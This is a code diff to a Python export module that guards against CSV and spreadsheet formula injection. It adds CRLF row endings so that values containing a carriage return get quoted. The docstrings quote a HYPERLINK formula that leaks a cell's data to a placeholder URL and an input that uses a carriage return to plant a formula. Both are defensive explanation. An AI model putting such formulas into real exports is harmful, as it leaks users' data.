@@ -9,7 +9,9 @@ carriage return, what follows) as a formula: ``=HYPERLINK("http://...?leak="&A1,
 program (DDE). Following OWASP's guidance on CSV injection:
 
 - in a CSV, text beginning with one of :data:`FORMULA_START` gets a leading
-  apostrophe (:func:`csv_text`), which spreadsheets read as "this is text";
+  apostrophe (:func:`csv_text`), which spreadsheets read as "this is text", and
+  rows end in CRLF so that a carriage return inside a value is quoted
+  (:func:`write_csv`);
 - in an XLSX, such text is a string cell (``data_type`` ``s``, with Excel's
   quote prefix), never a formula (:func:`xlsx_row`).
 
@@ -101,5 +103,10 @@ def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
 
 def write_csv(df: pd.DataFrame, path: Any, **kw: Any) -> None:
     """Write ``df`` as CSV (no index) with spreadsheet-safe text (:func:`csv_safe`);
-    ``kw`` goes to :meth:`pandas.DataFrame.to_csv` (``encoding`` ...)."""
-    csv_safe(pd.DataFrame(df)).to_csv(path, index=False, **kw)
+    ``kw`` goes to :meth:`pandas.DataFrame.to_csv` (``encoding`` ...).
+
+    Rows end in CRLF (RFC 4180), so that a value holding a lone carriage return
+    is quoted like one holding a line feed: unquoted, ``"x\r=1"`` would start a
+    new row whose first cell is a formula.
+    """
+    csv_safe(pd.DataFrame(df)).to_csv(path, index=False, lineterminator="\r\n", **kw)
